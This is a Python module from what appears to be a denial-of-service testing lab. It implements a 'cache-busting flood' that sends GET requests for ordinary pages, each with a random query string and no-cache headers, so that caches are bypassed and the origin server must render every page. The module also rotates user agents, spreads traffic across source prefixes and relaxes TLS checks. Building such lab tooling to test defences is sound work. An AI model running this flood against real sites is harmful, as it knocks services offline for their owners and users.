"""Cache-busting flood: ordinary pages, each with a query that nobody asked for before, so that no cache has
the answer and the origin makes every page."""

from __future__ import annotations

import asyncio
import random

from rempart.lab.attacks.bots import AGENTS, BotParameters, flood
from rempart.lab.attacks.contract import Attack, Order, Sources, Target, Unit
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender
from rempart.lab.clients.connecting import careless_tls

CACHE_BUSTING_FLOOD = Attack(
    name="cache-busting-flood",
    unit=Unit.REQUESTS,
    summary="GETs of ordinary pages over TLS, each with a query of its own that no cache has seen",
    defaults=BotParameters(rate=400, sources=Sources.PREFIXES, v6_share=0.2),
    sender=lambda order: own_sender(order, "cache_busting_flood"),
)


def request(target: Target, chosen: random.Random) -> bytes:
    page = chosen.choice(target.pages)
    joint = "&" if "?" in page else "?"
    query = f"{chosen.getrandbits(20):x}={chosen.getrandbits(48):x}"
    return (
        f"GET {page}{joint}{query} HTTP/1.1\r\nHost: {target.host}\r\nUser-Agent: {chosen.choice(AGENTS)}\r\n"
        "Accept: */*\r\nCache-Control: no-cache\r\nPragma: no-cache\r\nConnection: keep-alive\r\n\r\n"
    ).encode()


def carry_out(order: Order, tally: Tally) -> None:
    parameters = BotParameters.model_validate(order.parameters)
    ask = flood(
        order, parameters, tally, careless_tls("http/1.1"), lambda chosen: request(order.target, chosen)
    )
    asyncio.run(ask)


if __name__ == "__main__":
    run_sender(carry_out)
